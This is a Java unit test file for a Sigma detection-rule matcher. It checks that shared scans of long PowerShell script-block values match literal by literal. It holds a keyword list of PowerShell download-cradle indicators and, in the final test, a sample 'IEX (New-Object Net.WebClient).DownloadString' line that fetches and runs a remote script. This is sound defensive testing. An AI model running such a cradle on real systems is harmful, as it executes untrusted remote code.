package dev.sigmacep.sigma.match;

import dev.sigmacep.field.EventPredicate;
import dev.sigmacep.sigma.SigmaRuleException;
import dev.sigmacep.sigma.compile.DetectionCompiler;
import dev.sigmacep.sigma.load.DetectionParser;
import dev.sigmacep.sigma.load.RuleLoader;
import dev.sigmacep.sigma.rule.CompiledRule;
import dev.sigmacep.sigma.rule.RulePack;
import dev.sigmacep.sigma.text.CaseFolding;
import dev.sigmacep.sigma.text.Encodings;
import org.junit.jupiter.api.Test;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.function.Predicate;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

/**
 * The entries of a rule that share one scan of a long value ({@link ContainsScan}) decide exactly as searching each
 * literal would: caseless and case-sensitive literals, base64 expansions, non-ASCII literals (never scanned) and
 * other patterns mixed on one field, over values long enough to be scanned; and threads sharing the rule never get
 * another value's scan.
 */
class ContainsScanTest {
    private static final String FIELD = "ScriptBlockText";
    private static final List<String> CASELESS = List.of("-nop", " -w ", "hidden", "iex", "New-Object",
            "Net.WebClient", ".download", "bypass");
    private static final List<String> CASED = List.of("AbC", "Net.WebClient");
    /** encoded caselessly (as Sigma strings are), and in upper case with {@code cased} */
    private static final String ENCODED = "hidden";
    private static final String NON_ASCII = "café";

    /** Per selection of {@link #detection}: what it means, searched for naively. */
    private static final Map<String, Predicate<String>> MEANING = new LinkedHashMap<>();

    static {
        MEANING.put("sel_all", text -> CASELESS.subList(0, 4).stream().allMatch(l -> containsCaseless(text, l)));
        MEANING.put("sel_any", text -> CASELESS.subList(3, 8).stream().anyMatch(l -> containsCaseless(text, l)));
        MEANING.put("sel_cased", text -> CASED.stream().anyMatch(text::contains));
        MEANING.put("sel_encoded", text -> offsets(ENCODED).stream()
                .anyMatch(encoded -> containsCaseless(text, encoded))
                && offsets(ENCODED.toUpperCase()).stream().anyMatch(text::contains));
        MEANING.put("sel_mixed", text -> containsCaseless(text, NON_ASCII)
                || containsCaseless(text, "iex") && text.toLowerCase().endsWith("end")
                || text.matches("(?is).*web.lient.*"));
    }

    private static List<String> offsets(String text) {
        return Encodings.base64Offsets(text.getBytes(StandardCharsets.UTF_8));
    }

    private static boolean containsCaseless(String text, String literal) {
        return CaseFolding.fold(text).contains(CaseFolding.fold(literal));
    }

    /** All selections on one field, so that they share its scan; the condition picks one of them. */
    private static EventPredicate detection(String condition) throws SigmaRuleException {
        Map<String, Object> detection = new LinkedHashMap<>();
        detection.put("sel_all", Map.of(FIELD + "|contains|all", CASELESS.subList(0, 4)));
        detection.put("sel_any", Map.of(FIELD + "|contains", CASELESS.subList(3, 8)));
        detection.put("sel_cased", Map.of(FIELD + "|contains|cased", CASED));
        detection.put("sel_encoded", Map.of(FIELD + "|base64offset|contains|cased", ENCODED.toUpperCase(),
                FIELD + "|base64offset|contains", ENCODED));
        detection.put("sel_mixed", List.of(Map.of(FIELD + "|contains", List.of(NON_ASCII)),
                Map.of(FIELD + "|contains", "iex", FIELD + "|endswith", "end"),
                Map.of(FIELD + "|contains", "web?lient")));
        detection.put("condition", condition);
        return new DetectionCompiler(MatchContext.empty()).compile(DetectionParser.parse(detection));
    }

    /** Long values made of the literals (in random case), pieces of them, their encodings and filler. */
    private static String randomText(Random random) {
        List<String> pieces = new ArrayList<>(CASELESS);
        pieces.addAll(CASED);
        pieces.addAll(offsets(ENCODED));
        pieces.addAll(offsets(ENCODED.toUpperCase()));
        pieces.addAll(List.of(NON_ASCII, "CAFÉ", "caf", "hidde", "-no", "Net.", "WebXlient", "\u212Aelvin", "end"));
        StringBuilder text = new StringBuilder();
        int length = ContainsScan.MIN_CHARS + random.nextInt(1500);
        int oddsOfAPiece = random.nextBoolean() ? 5 : 300; // dense texts match most selections, sparse ones few
        while (text.length() < length) {
            if (random.nextInt(oddsOfAPiece) == 0) {
                String piece = pieces.get(random.nextInt(pieces.size()));
                text.append(random.nextBoolean() ? piece : randomCase(piece, random));
            } else {
                text.append("abcdefghijklmnopqrstuvwxyz -.".charAt(random.nextInt(29)));
            }
        }
        return random.nextInt(8) == 0 ? text + "END" : text.toString();
    }

    private static String randomCase(String piece, Random random) {
        StringBuilder cased = new StringBuilder();
        for (char c : piece.toCharArray()) {
            cased.append(random.nextBoolean() ? Character.toUpperCase(c) : Character.toLowerCase(c));
        }
        return cased.toString();
    }

    @Test
    void selectionsSharingAScanDecideAsSearchingEachLiteral() throws Exception {
        Map<String, EventPredicate> selections = new LinkedHashMap<>();
        for (String name : MEANING.keySet()) {
            selections.put(name, detection(name));
        }
        Random random = new Random(21);
        Map<String, int[]> outcomes = new LinkedHashMap<>();
        for (int i = 0; i < 3_000; i++) {
            String text = randomText(random);
            for (Map.Entry<String, EventPredicate> selection : selections.entrySet()) {
                boolean expected = MEANING.get(selection.getKey()).test(text);
                String copy = new String(text.toCharArray()); // an equal value in another instance: scanned anew
                assertThat(selection.getValue().test(TestEvent.of(FIELD, text)))
                        .as("%s on %s", selection.getKey(), text)
                        .isEqualTo(expected);
                assertThat(selection.getValue().test(TestEvent.of(FIELD, copy))).as("%s again", selection.getKey())
                        .isEqualTo(expected);
                outcomes.computeIfAbsent(selection.getKey(), k -> new int[2])[expected ? 1 : 0]++;
            }
        }
        // the texts exercise both outcomes of every selection
        outcomes.forEach((name, counts) -> assertThat(Math.min(counts[0], counts[1])).as("%s: %s false, %s true", name,
                counts[0], counts[1]).isGreaterThan(100));
    }

    @Test
    void threadsSharingARuleGetTheirOwnValuesScans() throws Exception {
        EventPredicate selection = detection("sel_all or sel_any");
        Random random = new Random(5);
        List<String> texts = new ArrayList<>();
        List<Boolean> expected = new ArrayList<>();
        for (int i = 0; i < 400; i++) {
            String text = randomText(random);
            texts.add(text);
            expected.add(MEANING.get("sel_all").test(text) || MEANING.get("sel_any").test(text));
        }
        assertThat(TestEvent.mistakesOfThreadsSharing(selection, FIELD, texts, expected, 20_000)).isZero();
    }

    @Test
    void sigmaHqsSuspiciousPowerShellInvocationsOnALongScriptBlock() throws Exception {
        Path rule = Path.of(System.getProperty("sigmacep.shared", "../shared"), "data", "sigma", "rules", "windows",
                "powershell", "powershell_script", "posh_ps_susp_invocation_specific.yml");
        assumeTrue(Files.isRegularFile(rule), "no SigmaHQ rule at " + rule);
        RulePack pack = new RuleLoader(MatchContext.empty()).load(RuleLoader.readSources(List.of(rule)));
        CompiledRule compiled = pack.compiled().get(0);
        String filler = "$x = Get-Item -Path $env:TEMP; Write-Output $x.Name\n".repeat(20);
        String webclient = "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1')\n";
        String chocolatey = "Write-ChocolateyWarning 'old'\n";
        assertThat(compiled.matches(TestEvent.of(FIELD, filler + webclient))).isTrue();
        assertThat(compiled.matches(TestEvent.of(FIELD, filler + webclient.toUpperCase()))).isTrue();
        assertThat(compiled.matches(TestEvent.of(FIELD, webclient + filler + chocolatey))).isFalse();
        assertThat(compiled.matches(TestEvent.of(FIELD, filler + webclient.replace("Net.", "Net ")))).isFalse();
        assertThat(compiled.matches(TestEvent.of(FIELD, webclient))).as("short, searched literal by literal").isTrue();
    }
}
